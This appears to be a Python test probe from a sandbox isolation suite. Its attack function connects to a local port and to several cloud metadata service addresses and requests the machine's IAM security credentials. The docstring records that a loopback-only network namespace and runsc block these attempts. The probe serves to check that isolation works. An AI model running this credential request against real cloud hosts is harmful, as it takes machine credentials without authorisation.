"""Asks the metadata services of the large clouds for the machine's credentials.

layer: a network namespace with nothing but a loopback
stopped: errno ENETUNREACH
stopped runsc: errno EHOSTUNREACH, ENETUNREACH
control: lift network
"""

import socket

import arena
import probe

SERVICES = ["169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "168.63.129.16"]
REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nMetadata-Flavor: Google\r\n\r\n"


def attack():
    for address in [("127.0.0.1", arena.HOST_PORT), *[(service, 80) for service in SERVICES]]:
        try:
            with socket.create_connection(address, timeout=2) as connection:
                connection.sendall(REQUEST)
                return f"{address[0]} said {connection.recv(64)!r}"
        except OSError as error:
            last = error
    raise last


main = probe.attempting(attack)
